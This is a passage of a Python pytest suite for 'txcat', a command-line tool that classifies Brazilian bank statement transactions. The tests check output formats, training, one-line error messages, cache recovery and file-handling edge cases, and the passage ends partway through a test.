"""The command line as a user runs it: exact output shapes, clear errors, no tracebacks."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from helpers import SAMPLES

from txcat.cli import main

EXTRATO = str(SAMPLES / "extrato.csv")

ORIGIN_EXAMPLE = """data,código,valor,tipo
03/09/2024,d5g489fc,-30.50,Compra no débito - Mercado Econômico
02/09/2024,c4f378db,20.00,Transferência recebida pelo Pix - LOJA DE DOCES
24/10/2024,j1m045li,-500.56,Transferência enviada pelo Pix - MERCADINHO
30/10/2024,f7i601he,-87.54,Compra no crédito - Posto XYZ
03/09/2024,e6h590gd,-6.89,Compra no débito - Estacionamento Central
"""


def run(*args: str, input: str | bytes | None = None) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args), input=input)
    return result.exit_code, result.stdout, result.stderr


def test_worked_example_from_the_labeling_guide(tmp_path: Path) -> None:
    path = tmp_path / "extrato.csv"
    path.write_text(ORIGIN_EXAMPLE, encoding="utf-8")
    code, out, _ = run("classify", str(path))
    assert code == 0
    assert out == ("código,informação\n"
                   "d5g489fc,NECESSIDADE\n"
                   "c4f378db,LAZER\n"
                   "j1m045li,NECESSIDADE\n"
                   "f7i601he,TRABALHO\n"
                   "e6h590gd,TRABALHO\n")


def test_classify_samples_extrato_gives_one_row_per_input_row_in_order() -> None:
    code, out, _ = run("classify", EXTRATO)
    assert code == 0
    lines = out.splitlines()
    assert lines[0] == "código,informação"
    ids = [line.split(",")[0] for line in lines[1:]]
    expected_ids = [row.split(",")[2] for row in
                    (SAMPLES / "extrato.csv").read_text(encoding="utf-8").splitlines()[1:]]
    assert ids == expected_ids
    labels = dict(line.split(",") for line in lines[1:])
    # Labels LABELS.md gives these counterparts (rules 1-4).
    assert labels["b900976c"] == "NECESSIDADE"  # MERCADINHO ESTRELA
    assert labels["fae5940d"] == "TRABALHO"  # Estacionamento Central
    assert labels["9947be3d"] == "LAZER"  # LOJA DE DOCES (Pix received)
    assert labels["31fc9376"] == "LAZER"  # Restaurante Bella Vista
    assert labels["6f6ec6ae"] == "NECESSIDADE"  # Mercado Econômico
    assert labels["bd8d8e3c"] == "LAZER"  # Café Expresso


def test_full_format_keeps_every_input_column_and_adds_label_and_confidence() -> None:
    code, out, _ = run("classify", EXTRATO, "--format", "full")
    assert code == 0
    lines = out.splitlines()
    assert lines[0] == "data,valor,codigo,descricao,label,confidence"
    first = lines[1].split(",")
    assert first[:3] == ["03/09/2024", "-22.13", "b900976c"]
    assert 0.0 < float(first[-1]) <= 1.0
    assert len(lines) == 11


def test_jsonl_format_is_one_object_per_row() -> None:
    code, out, _ = run("classify", EXTRATO, "--format", "jsonl")
    assert code == 0
    records = [json.loads(line) for line in out.splitlines()]
    assert len(records) == 10
    first = records[0]
    assert first["id"] == "b900976c" and first["row"] == 1
    assert first["amount"] == -22.13 and first["date"] == "2024-09-03"
    assert first["label"] in {"LAZER", "NECESSIDADE", "TRABALHO"}
    assert first["raw"]["codigo"] == "b900976c"


def test_stdin_is_read_with_a_dash() -> None:
    code, out, _ = run("classify", "-", input=(SAMPLES / "extrato.csv").read_bytes())
    assert code == 0
    assert len(out.splitlines()) == 11


def test_multiple_files_in_full_format_share_one_header(tmp_path: Path) -> None:
    other = tmp_path / "nubank.csv"
    other.write_text("Data,Valor,Identificador,Descrição\n"
                     "01/09/2024,-12.00,abc-1,Compra no débito - Padaria Pão Nosso\n",
                     encoding="utf-8")
    code, out, _ = run("classify", EXTRATO, str(other), "--format", "full")
    assert code == 0
    lines = out.splitlines()
    # With several files, each row names its file first, as jsonl's "file" does.
    assert lines[0] == ("file,data,valor,codigo,descricao,Data,Valor,Identificador,Descrição,"
                        "label,confidence")
    assert len(lines) == 12
    assert lines[1].startswith(f"{EXTRATO},")
    assert lines[-1].startswith(f"{other},,,,,01/09/2024,-12.00,abc-1,")
    code, out, _ = run("classify", EXTRATO, "--format", "full")
    assert out.splitlines()[0] == "data,valor,codigo,descricao,label,confidence"


def test_threshold_marks_doubtful_rows_for_review_and_reports_the_count() -> None:
    code, out, err = run("classify", EXTRATO, "--threshold", "1.0")
    assert code == 0
    assert [line.split(",")[1] for line in out.splitlines()[1:]] == ["REVISAR"] * 10
    assert "10 of 10 rows below confidence 1 were labeled REVISAR" in err
    code, out, err = run("classify", EXTRATO, "--threshold", "0")
    assert "REVISAR" not in out
    assert "0 of 10 rows" in err


def test_output_file_is_written_and_jsonl_is_inferred_from_its_name(tmp_path: Path) -> None:
    target = tmp_path / "out" / "labels.jsonl"
    code, out, _ = run("classify", EXTRATO, "-o", str(target))
    assert code == 0 and out == ""
    assert len([json.loads(x) for x in target.read_text().splitlines()]) == 10


def test_a_failure_leaves_no_partial_output_and_keeps_the_old_file(tmp_path: Path) -> None:
    target = tmp_path / "labels.csv"
    target.write_text("previous results\n")
    bad = tmp_path / "bad.csv"
    bad.write_text("Data,Valor,Identificador,Descrição\n01/09/2024,-1.00,a,ok\n"
                   '01/09/2024,-1.00,b,"unterminated\n' + "x" * 2_000_000 + "\n")
    code, _, err = run("classify", EXTRATO, str(bad), "-o", str(target))
    assert code == 1
    assert err.startswith("txcat: error: ") and "bad.csv" in err
    assert "Traceback" not in err
    assert target.read_text() == "previous results\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.csv", "labels.csv"]


@pytest.mark.parametrize("args, message", [
    (["classify", "nope.csv"], "nope.csv: no such file"),
    (["classify", EXTRATO, "--model", "no-model-here"], "no such model directory"),
    (["classify", EXTRATO, "--strategy", "nonsense"], "unknown strategy 'nonsense'"),
    (["classify", EXTRATO, "--description-column", "Histórico"], "'Histórico' not found"),
    (["train", EXTRATO, "-o", "m"], "no label column found (looked for label"),
])
def test_user_errors_are_one_line_without_traceback(args: list[str], message: str,
                                                    tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    code, _, err = run(*args)
    assert code == 1
    assert message in err
    assert err.count("\n") == 1 and "Traceback" not in err


def test_train_then_classify_with_the_model(tmp_path: Path) -> None:
    labeled = tmp_path / "rotulado.csv"
    labeled.write_text(
        "data,valor,codigo,descricao,categoria\n"
        "01/09/2024,-10.00,a1,Compra no débito - Padaria Pão Quente,NECESSIDADE\n"
        "01/09/2024,-10.00,a2,Compra no débito - Supermercado Dia a Dia,necessidade\n"
        "01/09/2024,-10.00,a3,Compra no débito - Pizzaria Bella,LAZER\n"
        "01/09/2024,-10.00,a4,Compra no débito - Bar do Zeca,LAZER\n"
        "01/09/2024,-10.00,a5,Compra no débito - Auto Posto Rota,TRABALHO\n"
        "01/09/2024,-10.00,a6,Compra no débito - Estacionamento Praça,TRABALHO\n"
        "01/09/2024,-10.00,a7,Compra no débito - Posto sem rótulo,\n",
        encoding="utf-8")
    model = tmp_path / "modelo"
    code, _, err = run("train", str(labeled), "-o", str(model))
    assert code == 0, err
    assert "1 row had no label (empty or REVISAR) and was skipped" in err
    manifest = json.loads((model / "txcat.json").read_text())
    assert manifest["training"]["rows"] == 6
    assert manifest["training"]["label_counts"] == {"LAZER": 2, "NECESSIDADE": 2, "TRABALHO": 2}
    code, out, _ = run("classify", str(labeled), "--model", str(model))
    assert code == 0
    assert out.splitlines()[1:4] == ["a1,NECESSIDADE", "a2,NECESSIDADE", "a3,LAZER"]


def test_labels_outside_the_set_name_the_row(tmp_path: Path) -> None:
    labeled = tmp_path / "l.csv"
    labeled.write_text("data,valor,codigo,descricao,label\n"
                       "01/09/2024,-1.00,a,Padaria,NECESSIDADE\n"
                       "01/09/2024,-1.00,b,Cinema,DIVERSAO\n", encoding="utf-8")
    code, _, err = run("train", str(labeled), "-o", str(tmp_path / "m"))
    assert code == 1
    assert "l.csv:3: label 'DIVERSAO' (column 'label') is not in the label set" in err
    assert "(column 'label')" in err and "--label-column NAME" in err
    code, _, err = run("train", str(labeled), "-o", str(tmp_path / "m"),
                       "--labels", "NECESSIDADE,DIVERSAO")
    assert code == 0, err


def test_strategies_lists_tfidf_as_usable() -> None:
    code, out, _ = run("strategies", "--json")
    assert code == 0
    rows = {row["name"]: row for row in json.loads(out)}
    assert rows["tfidf"]["usable"] is True
    assert rows["tfidf"]["needs"] == ["sklearn"]


def test_layouts_lists_every_builtin_bank() -> None:
    code, out, _ = run("layouts")
    assert code == 0
    for name in ("origin-codigo", "origin-descricao", "nubank-conta", "nubank-cartao", "inter",
                 "itau", "c6", "bb"):
        assert name in out


def test_help_does_not_import_heavy_libraries() -> None:
    code = ("import sys, txcat.cli, txcat.plugins as p; p.get_strategies(); p.get_layouts(); "
            "print(sorted(m for m in ('sklearn', 'numpy', 'scipy', 'torch', 'matplotlib', "
            "'rich') if m in sys.modules))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         check=True).stdout
    assert out.strip() == "[]"


def test_help_explains_the_commands() -> None:
    code, out, _ = run("--help")
    assert code == 0
    for command in ("classify", "train", "strategies", "layouts"):
        assert command in out
    code, out, _ = run("classify", "--help")
    assert "--threshold" in out and "REVISAR" in out and "código,informação" in out


@pytest.mark.slow
def test_a_100000_row_statement_streams_through_to_a_file(tmp_path: Path) -> None:
    big = tmp_path / "big.csv"
    with big.open("w", encoding="utf-8") as f:
        f.write("Data,Valor,Identificador,Descrição\n")
        for i in range(100_000):
            kind = ("Padaria Pão Quente", "Auto Posto Via Norte", "Pizzaria Bella")[i % 3]
            f.write(f"01/09/2024,-{i % 97 + 1}.50,id-{i},Compra no débito - {kind}\n")
    out = tmp_path / "out.csv"
    code, _, err = run("classify", str(big), "-o", str(out))
    assert code == 0, err
    lines = out.read_text(encoding="utf-8").splitlines()
    assert len(lines) == 100_001
    assert lines[1] == "id-0,NECESSIDADE"
    assert lines[-1] == "id-99999,NECESSIDADE"  # 99999 % 3 == 0: the padaria
    assert lines[-2] == "id-99998,LAZER"


def test_train_reads_every_csv_of_a_folder(tmp_path: Path) -> None:
    """'txcat train samples/labeled' is what people type: a folder stands for its
    statement files (*.csv, in name order); one without any is a one-line error."""
    folder = tmp_path / "rotulados"
    folder.mkdir()
    for name in ("c6.csv", "inter.csv"):
        (folder / name).write_bytes((SAMPLES / "labeled" / name).read_bytes())
    (folder / "LEIAME.txt").write_text("not a statement")
    code, _, err = run("train", str(folder), "-o", str(tmp_path / "m"))
    assert code == 0, err
    training = json.loads((tmp_path / "m" / "txcat.json").read_text())["training"]
    code, _, err = run("train", str(SAMPLES / "labeled" / "c6.csv"),
                       str(SAMPLES / "labeled" / "inter.csv"), "-o", str(tmp_path / "m2"))
    assert code == 0, err
    by_files = json.loads((tmp_path / "m2" / "txcat.json").read_text())["training"]
    assert training["files"] == ["c6.csv", "inter.csv"]
    assert {k: training[k] for k in ("files", "rows", "fingerprint")} == \
        {k: by_files[k] for k in ("files", "rows", "fingerprint")}

    (tmp_path / "empty").mkdir()
    code, _, err = run("train", str(tmp_path / "empty"), "-o", str(tmp_path / "m3"))
    assert code == 1
    assert "empty: is a folder with no .csv statement files" in err
    assert "Traceback" not in err


def test_a_folder_skips_lock_and_hidden_files_beside_its_statements(tmp_path: Path) -> None:
    """Excel keeps '~$extrato.csv' while the file is open, macOS writes '._extrato.csv' on
    shared drives: neither is a statement, and on Windows the user cannot even see them."""
    folder = tmp_path / "extratos"
    folder.mkdir()
    (folder / "extrato.csv").write_bytes(Path(EXTRATO).read_bytes())
    (folder / "~$extrato.csv").write_bytes(b"\x0bFulano Silva      \x00\x00\x00")
    (folder / "._extrato.csv").write_bytes(b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X")
    code, out, err = run("classify", str(folder))
    assert code == 0, err
    assert out == run("classify", EXTRATO)[1]
    (folder / "extrato.csv").unlink()
    code, _, err = run("classify", str(folder))
    assert code == 1 and "is a folder with no .csv statement files" in err


def test_train_accepts_strategy_parameters_and_rejects_unknown_ones(tmp_path: Path) -> None:
    labeled = str(SAMPLES / "labeled" / "c6.csv")
    code, _, err = run("train", labeled, "-o", str(tmp_path / "m"), "-p", "directory=false",
                       "-p", "C=2.5")
    assert code == 0, err
    params = json.loads((tmp_path / "m" / "txcat.json").read_text())["params"]
    assert params["directory"] is False and params["C"] == 2.5
    code, _, err = run("train", labeled, "-o", str(tmp_path / "m2"), "-p", "depth=3")
    assert code == 1
    assert "strategy 'tfidf' has no parameter depth; its parameters: C, directory" in err


@pytest.mark.parametrize("args, message", [
    (["-p", "C=1", "-p", "C=2"], "-p C is given twice (C=1, C=2); give it once"),
    (["--strategy", "bert", "-p", "base_model=/a", "--base-model", "/b"],
     "base_model is given twice (-p base_model=/a and --base-model /b); give it once"),
])
def test_a_parameter_given_twice_is_an_error_not_a_silent_choice(
        args: list[str], message: str, tmp_path: Path) -> None:
    code, _, err = run("train", str(SAMPLES / "labeled" / "c6.csv"), "-o", str(tmp_path / "m"),
                       *args)
    assert code == 2
    assert message in err and "Traceback" not in err
    assert not (tmp_path / "m").exists()


@pytest.mark.parametrize("target, message", [
    ("a-folder", "a-folder: is a directory; give a file name"),
    ("/proc/no-such-place/out.csv", "cannot write /proc/no-such-place/out.csv"),
])
def test_unwritable_outputs_are_one_line_errors(target: str, message: str, tmp_path: Path,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a-folder").mkdir()
    code, _, err = run("classify", EXTRATO, "-o", target)
    assert code == 1
    assert message in err
    assert err.count("\n") == 1 and "Traceback" not in err


def test_train_checks_its_output_directory_before_training(tmp_path: Path) -> None:
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "keep.txt").write_text("mine")
    code, _, err = run("train", str(SAMPLES / "labeled" / "c6.csv"), "-o",
                       str(tmp_path / "notes"))
    assert code == 1
    assert "exists and is not a txcat model directory" in err
    assert "training" not in err


def test_a_damaged_default_model_cache_is_rebuilt(tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TXCAT_CACHE_DIR", str(tmp_path / "cache"))
    assert run("classify", EXTRATO)[0] == 0
    (cached,) = (tmp_path / "cache").iterdir()
    (cached / "tfidf.npz").write_bytes(b"not a zip")
    code, out, err = run("classify", EXTRATO)
    assert code == 0, err
    assert "rebuilding" in err and len(out.splitlines()) == 11
    (cached / "txcat.json").unlink()
    code, out, err = run("classify", EXTRATO)
    assert code == 0, err and len(out.splitlines()) == 11


def test_an_unusable_cache_location_only_warns(tmp_path: Path,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    monkeypatch.setenv("TXCAT_CACHE_DIR", str(blocker))
    code, out, err = run("classify", EXTRATO)
    assert code == 0, err
    assert "could not cache the model" in err and len(out.splitlines()) == 11


@pytest.mark.parametrize("value, message", [
    ("min_df=100000", "min_df 100000 is more than the 560 training rows"),
    ("C=", "C must be a positive number"),
])
def test_train_parameter_problems_are_one_line_errors(value: str, message: str,
                                                      tmp_path: Path) -> None:
    code, _, err = run("train", str(SAMPLES / "labeled" / "c6.csv"), "-o", str(tmp_path / "m"),
                       "-p", value)
    assert code == 1
    assert message in err and "Traceback" not in err


def test_output_through_a_symlink_writes_the_target_and_keeps_the_link(tmp_path: Path) -> None:
    real = tmp_path / "real.csv"
    real.write_text("old")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    assert run("classify", EXTRATO, "-o", str(link))[0] == 0
    assert link.is_symlink()
    assert real.read_text(encoding="utf-8").startswith("código,informação")


def test_output_file_permissions_follow_the_umask(tmp_path: Path) -> None:
    import os

    old = os.umask(0o022)
    try:
        assert run("classify", EXTRATO, "-o", str(tmp_path / "o.csv"))[0] == 0
    finally:
        os.umask(old)
    assert (tmp_path / "o.csv").stat().st_mode & 0o777 == 0o644


def test_output_to_a_fifo_is_written_in_place(tmp_path: Path) -> None:
    import os
    import threading

    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
    reader.start()
    code, _, err = run("classify", EXTRATO, "-o", str(fifo))
    reader.join(timeout=30)
    assert code == 0, err
    assert fifo.is_fifo()  # not replaced by a regular file
    assert received[0].decode("utf-8").startswith("código,informação\nb900976c,")


def test_descriptions_the_terminal_cannot_encode_do_not_crash(tmp_path: Path) -> None:
    statement = tmp_path / "emoji.csv"
    statement.write_text("data,valor,codigo,descricao\n01/09/2024,-5.00,e1,Café ☕ Expresso\n",
                         encoding="utf-8")
    env = {**__import__("os").environ, "PYTHONIOENCODING": "ascii"}
    result = subprocess.run([sys.executable, "-m", "txcat", "classify", str(statement),
                             "--format", "jsonl"], capture_output=True, text=True, env=env,
                            encoding="ascii", errors="replace")
    assert result.returncode == 0, result.stderr
    assert '"id": "e1"' in result.stdout


def test_a_local_llm_without_transformers_installed_is_a_one_line_error(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """``--llm hf:...`` runs a transformers model here; without the package the user
    must read which extra to install, not a ModuleNotFoundError traceback."""
    import sys

    monkeypatch.setitem(sys.modules, "transformers", None)  # as if not installed
    result = CliRunner().invoke(main, ["classify", str(SAMPLES / "extrato.csv"),
                                       "--llm", "hf:/no/such/model"])
    assert result.exit_code == 1
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "pip install 'txcat[transformers]'" in result.stderr
    assert "Traceback" not in result.stderr


def _labeled(tmp_path: Path, *rows: tuple[str, str]) -> Path:
    path = tmp_path / "rotulado.csv"
    path.write_text("data,valor,codigo,descricao,label\n" + "".join(
        f"01/09/2024,-10.00,a{i},{description},{label}\n"
        for i, (description, label) in enumerate(rows)), encoding="utf-8")
    return path


def test_training_on_a_single_label_is_refused(tmp_path: Path) -> None:
    """A model that has seen one label answers it for every row at confidence 1.0,
    which no threshold can catch: refuse it rather than save it."""
    labeled = _labeled(tmp_path, ("Uber", "LAZER"), ("iFood", "LAZER"), ("Cinema", "LAZER"))
    code, _, err = run("train", str(labeled), "-o", str(tmp_path / "m"))
    assert code == 1
    assert "only one label (LAZER)" in err and "at least two" in err
    assert not (tmp_path / "m").exists()


def test_labels_of_the_set_never_seen_in_training_are_named(tmp_path: Path) -> None:
    labeled = _labeled(tmp_path, ("Padaria Pão Quente", "NECESSIDADE"),
                       ("Pizzaria Bella", "LAZER"), ("Bar do Zeca", "LAZER"))
    code, _, err = run("train", str(labeled), "-o", str(tmp_path / "m"))
    assert code == 0, err
    assert "TRABALHO never appears in the training rows" in err
    code, _, err = run("train", str(labeled), "-o", str(tmp_path / "m2"),
                       "--labels", "LAZER,NECESSIDADE,OUTRO")
    assert code == 0, err
    assert "OUTRO never appears" in err


def test_rows_still_marked_for_review_are_skipped_like_unlabeled_ones(tmp_path: Path) -> None:
    """A file classified with --threshold and partly reviewed still holds REVISAR rows:
    they carry no label yet, so they are skipped and counted, not an error."""
    labeled = _labeled(tmp_path, ("Padaria Pão Quente", "NECESSIDADE"),
                       ("Pizzaria Bella", "LAZER"), ("Auto Posto Rota", "TRABALHO"),
                       ("PIX JOAO", "REVISAR"), ("Sem nome", ""))
    code, _, err = run("train", str(labeled), "-o", str(tmp_path / "m"))
    assert code == 0, err
    assert "2 rows had no label (empty or REVISAR) and were skipped" in err
    manifest = json.loads((tmp_path / "m" / "txcat.json").read_text())
    assert manifest["training"]["rows"] == 3


def test_a_file_whose_labels_are_all_empty_says_so(tmp_path: Path) -> None:
    labeled = _labeled(tmp_path, ("Uber", ""), ("iFood", ""))
    code, _, err = run("train", str(labeled), "-o", str(tmp_path / "m"))
    assert code == 1
    assert "no labeled rows to train on: all 2 rows have no label" in err


def test_train_counts_the_files_a_folder_stands_for(tmp_path: Path) -> None:
    folder = tmp_path / "rotulados"
    folder.mkdir()
    for name in ("a", "b"):
        (folder / f"{name}.csv").write_text(
            _labeled(tmp_path, ("Padaria Pão Quente", "NECESSIDADE"), ("Pizzaria Bella", "LAZER"),
                     ("Auto Posto Rota", "TRABALHO")).read_text(encoding="utf-8"),
            encoding="utf-8")
    code, _, err = run("train", str(folder), "-o", str(tmp_path / "m"))
    assert code == 0, err
    assert "on 6 rows from 2 files" in err


@pytest.mark.parametrize(("args", "status", "message"), [
    (["--labels", ",,"], 2, "--labels names no label"),  # 2: click's usage-error status
    (["--labels", ""], 2, "--labels names no label"),
    (["--label-column", "nope"], 1, "label column 'nope' not found; columns are"),
])
def test_label_options_that_name_nothing_are_clear_errors(args: list[str], status: int,
                                                          message: str, tmp_path: Path) -> None:
    labeled = _labeled(tmp_path, ("Padaria", "NECESSIDADE"), ("Bar", "LAZER"))
    code, _, err = run("train", str(labeled), "-o", str(tmp_path / "m"), *args)
    assert code == status
    assert message in err


def test_the_threshold_is_reported_as_given() -> None:
    code, _, err = run("classify", EXTRATO, "--threshold", "0.9999")
    assert code == 0
    assert "rows below confidence 0.9999 were labeled REVISAR" in err


@pytest.mark.parametrize(("args", "message"), [
    (["classify", EXTRATO, "--address", "ray://head:10001"], "--address is for --engine ray"),
    (["classify", "-", "-"], "'-' (standard input) is given more than once"),
    (["classify", EXTRATO, "-o", "out.parquet"], "parquet output needs --engine ray"),
    (["train", EXTRATO, "-o", "m", "--strategy", "tfidf", "--llm", "openai:gpt-4o-mini"],
     "--llm is for the prompt strategies (few-shot, zero-shot), not tfidf"),
    (["train", EXTRATO, "-o", "m", "--llm-base-url", "http://localhost:1/v1"],
     "--llm-base-url is for the prompt strategies (few-shot, zero-shot), not tfidf"),
    (["train", EXTRATO, "-o", "m", "--base-model", "some/model"],
     "--base-model is for the encoder and decoder strategies (bert, lora, zero-shot), not "
     "tfidf"),
    (["classify", EXTRATO, "--prompt-template", "t.txt"],
     "--prompt-template is for the prompt strategies (few-shot, zero-shot), not tfidf"),
    (["classify", EXTRATO, "--no-redact"], "--no-redact is for the prompt strategies"),
    (["export", str(SAMPLES / "labeled" / "c6.csv"), "--format", "alpaca", "-o", "t.jsonl",
      "--group-by-merchant"],
     "--group-by-merchant shapes the validation file: add --validation-out"),
    (["export", str(SAMPLES / "labeled" / "c6.csv"), "--format", "alpaca", "-o", "t.jsonl",
      "--seed", "3"], "--seed shapes the validation file: add --validation-out"),
    (["export", str(SAMPLES / "labeled" / "c6.csv"), "--format", "alpaca", "-o", "t.jsonl",
      "--validation-size", "0.2"], "add --validation-out"),
])
def test_options_that_would_be_ignored_are_usage_errors(args: list[str], message: str,
                                                        tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    code, _, err = run(*args)
    assert code == 2
    assert message in err
    assert not list(tmp_path.iterdir())  # nothing written


@pytest.mark.parametrize("args", [
    ["classify", EXTRATO, "--llm", "gpt-4o-mini"],
    ["classify", EXTRATO, "--strategy", "zero-shot", "--llm", "gpt-4o-mini"],
])
def test_a_bad_llm_value_is_named_as_such_not_as_the_wrong_strategy(args: list[str]) -> None:
    code, _, err = run(*args)
    assert code == 1
    assert "model spec 'gpt-4o-mini' not understood" in err and "openai:MODEL" in err
    assert "is for the prompt strategies" not in err


def test_an_output_path_through_a_file_names_the_file(tmp_path: Path) -> None:
    (tmp_path / "keep.csv").write_text("x\n", encoding="utf-8")
    code, _, err = run("classify", EXTRATO, "-o", str(tmp_path / "keep.csv" / "out.csv"))
    assert code == 1
    assert f"{tmp_path / 'keep.csv'} is a file, not a folder" in err
    # train says so before training (with bert, minutes), not after
    labeled = _labeled(tmp_path, ("Padaria", "NECESSIDADE"), ("Bar", "LAZER"))
    code, _, err = run("train", str(labeled), "-o", str(tmp_path / "keep.csv" / "x" / "m"))
    assert code == 1
    assert f"{tmp_path / 'keep.csv'} is a file, not a folder" in err
    assert "training tfidf" not in err


def test_train_with_an_llm_and_no_strategy_trains_few_shot_as_classify_does(
        tmp_path: Path) -> None:
    pytest.importorskip("openai")
    code, _, err = run("train", str(SAMPLES / "labeled" / "c6.csv"), "-o", str(tmp_path / "fs"),
                       "--llm", "openai:gpt-4o-mini")
    assert code == 0, err
    assert json.loads((tmp_path / "fs" / "txcat.json").read_text())["strategy"] == "few-shot"


def test_row_numbers_repeating_across_files_are_pointed_out(tmp_path: Path) -> None:
    """Files without an id column number their rows from 1: two such files give the
    same códigos, which a reader of the csv output cannot tell apart."""
    files = []
    for name in ("a.csv", "b.csv"):
        path = tmp_path / name
        path.write_text("data,descricao,valor\n01/09/2024,Padaria Pão Nosso,-12.00\n"
                        "02/09/2024,Cinema Arte,-30.00\n", encoding="utf-8")
        files.append(str(path))
    code, out, err = run("classify", *files)
    assert code == 0
    assert [line.split(",")[0] for line in out.splitlines()[1:]] == ["1", "2", "1", "2"]
    assert (f"{files[1]}: 2 códigos already used by earlier files; --format full or jsonl "
            "names each row's file") in err
    code, _, err = run("classify", *files, "--format", "full")
    assert "repeat" not in err


@pytest.mark.parametrize("where", ["before", "after"])
def test_quiet_works_before_or_after_the_command(where: str, tmp_path: Path) -> None:
    labeled = _labeled(tmp_path, ("Padaria Pão Quente", "NECESSIDADE"),
                       ("Pizzaria Bella", "LAZER"), ("Auto Posto Rota", "TRABALHO"))
    train = ["train", str(labeled), "-o", str(tmp_path / "m")]
    args = ["-q", *train] if where == "before" else [*train, "-q"]
    code, _, err = run(*args)
    assert code == 0, err
    assert err == ""  # no 'training tfidf on 3 rows' line


def test_every_option_of_every_command_explains_itself() -> None:
    import click

    bare = [f"{name} {opt.opts[-1]}" for name, command in main.commands.items()
            for opt in command.params
            if isinstance(opt, click.Option) and not opt.hidden and not opt.help]
    assert bare == []


@pytest.mark.parametrize("command", ["classify", "export"])
def test_an_output_that_is_one_of_the_inputs_is_refused(command: str, tmp_path: Path) -> None:
    """'-o extrato.csv' on extrato.csv would replace the statement with the answers."""
    labeled = _labeled(tmp_path, ("Padaria Pão Quente", "NECESSIDADE"), ("Bar do Zé", "LAZER"))
    before = labeled.read_bytes()
    extra = ["--format", "alpaca"] if command == "export" else []
    code, _, err = run(command, str(labeled), *extra, "-o", str(labeled))
    assert code == 1
    assert f"{labeled} is also an input; write the output elsewhere" in err
    assert labeled.read_bytes() == before


def test_few_shot_with_an_llm_whose_client_is_missing_is_refused_before_training(
        monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """A few-shot model saved where its backend cannot run fails only later, at
    classify time: say what to install when it is made."""
    monkeypatch.setitem(sys.modules, "openai", None)  # as if not installed
    code, _, err = run("train", str(SAMPLES / "labeled" / "c6.csv"), "-o", str(tmp_path / "fs"),
                       "--llm", "openai:gpt-4o-mini")
    assert code == 1
    assert "strategy 'few-shot' cannot run here: openai: needs openai (pip install " \
           "'txcat[llm]')" in err
    assert not (tmp_path / "fs").exists()


def test_an_error_before_the_first_row_leaves_no_header_only_output() -> None:
    """'txcat classify x.csv > out.csv' failing on its first batch (an LLM server down)
    must not leave an out.csv that looks like a valid, empty answer."""
    from helpers import strategy_plugin

    from txcat.errors import StrategyError
    from txcat.strategies.tfidf import TfidfStrategy

    class Unreachable(TfidfStrategy):
        name = "unreachable-test"
        cache_bundled = False

        def predict_proba(self, transactions: Any) -> Any:
            raise StrategyError("the server could not be reached")

    with strategy_plugin("unreachable-plugin", Unreachable):
        code, out, err = run("classify", EXTRATO, "--strategy", "unreachable-test")
    assert code == 1 and "could not be reached" in err
    assert out == ""


def test_an_output_named_jsonl_in_any_case_is_jsonl(tmp_path: Path) -> None:
    code, _, err = run("classify", EXTRATO, "-o", str(tmp_path / "OUT.JSONL"))
    assert code == 0, err
    first = (tmp_path / "OUT.JSONL").read_text(encoding="utf-8").splitlines()[0]
    assert json.loads(first)["id"]


def test_classify_reads_a_folder_as_its_csv_files_like_train(tmp_path: Path) -> None:
    folder = tmp_path / "extratos"
    folder.mkdir()
    for name in ("a.csv", "b.csv"):
        (folder / name).write_bytes((SAMPLES / "extrato.csv").read_bytes())
    (folder / "notes.txt").write_text("not a statement", encoding="utf-8")
    code, out, err = run("classify", str(folder), "--format", "jsonl")
    assert code == 0, err
    files = [json.loads(line)["file"] for line in out.splitlines()]
    assert len(files) == 20 and files[0].endswith("a.csv") and files[-1].endswith("b.csv")


def test_a_file_name_that_is_not_utf8_is_shown_by_its_bytes(tmp_path: Path) -> None:
    """A Latin-1 name ('extrato\\xe7.csv', from an old zip or a Windows share) is
    shown with its byte escaped, as it sits on disk, not as Python's internal
    surrogate ('\\udce7'), in errors and in warnings alike."""
    import os

    files = ((b"vazio", b"data,valor,descricao\n", 1, "error"),
             (b"semdesc", b"data,valor,descricao\n01/01/2024,-1.00,\n", 0, "warning"))
    for stem, content, status, kind in files:
        path = os.path.join(os.fsencode(tmp_path), stem + b"\xe7.csv")
        with open(path, "wb") as handle:
            handle.write(content)
        result = subprocess.run([sys.executable, "-m", "txcat", "classify",
                                 os.fsdecode(path)], capture_output=True, check=False)
        assert result.returncode == status, result.stderr
        stderr = result.stderr.decode("utf-8")
        assert f"{kind}: {tmp_path}/{stem.decode()}\\xe7.csv" in stderr, stderr
        assert "\\udc" not in stderr


def test_train_finds_an_output_it_cannot_write_before_training(tmp_path: Path) -> None:
    """For bert or lora, finding it after training threw away minutes of work."""
    labeled = SAMPLES / "labeled" / "c6.csv"
    result = CliRunner().invoke(main, ["train", str(labeled), "-o", "/proc/txcat-model"])
    assert result.exit_code == 1
    assert "cannot write /proc/txcat-model" in result.stderr
    assert "training" not in result.stderr


@pytest.mark.parametrize("header", ["label,label", "label,categoria"])
def test_two_columns_that_look_like_labels_are_pointed_out(header: str,
                                                           tmp_path: Path) -> None:
    """Two label columns (a repeated 'label', or 'label' beside a bank's 'categoria')
    that disagree: the first is used, and the user is told which and how to choose."""
    first, second = header.split(",")
    rows = [f"01/09/2024,-{i}.00,Padaria Sol {i},NECESSIDADE,TRABALHO" for i in range(1, 5)]
